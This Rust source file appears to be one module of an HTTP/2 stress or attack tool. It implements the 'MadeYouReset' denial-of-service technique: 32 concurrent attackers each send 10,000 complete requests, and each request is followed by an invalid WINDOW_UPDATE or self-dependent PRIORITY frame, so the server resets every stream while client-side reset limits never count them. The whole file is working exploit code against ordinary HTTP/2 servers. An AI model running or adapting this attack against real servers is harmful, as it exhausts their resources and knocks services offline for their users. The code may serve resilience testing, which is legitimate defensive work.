//! Makes the server give up HTTP/2 requests: each is whole, and an invalid frame for its stream follows. A limit on the resets of the
//! client alone would not count these (`MadeYouReset`).

use super::{Attack, WITH_HTTP2};
use crate::{aim::Aim, frames};
use anyhow::Result;
use futures::FutureExt as _;
use tokio::io::AsyncWriteExt;

pub(super) const ATTACK: Attack = Attack {
    name: "made-resets",
    about: "Makes the server reset HTTP/2 requests, by an invalid frame after each",
    targets: WITH_HTTP2,
    attackers: 32,
    leaves_answers: false,
    other_honest: None,
    once: |aim| once(aim).boxed(),
};

/// More than any window may have, together with what it has already.
const TOO_MUCH: u32 = u32::MAX >> 1;

async fn once(aim: Aim) -> Result<()> {
    let mut stream = aim.connect_http2(&[]).await?;
    for n in 0..10_000 {
        let stream_id = 2 * n + 1;
        let token = format!("Bearer {}", fastrand::u64(..));
        let request = frames::get_with(stream_id, "authorization", &token);
        let invalid = if fastrand::bool() {
            frames::window(stream_id, TOO_MUCH)
        } else {
            frames::priority(stream_id, stream_id) // a stream cannot depend on itself
        };
        stream.write_all(&[request, invalid].concat()).await?;
    }
    Ok(())
}
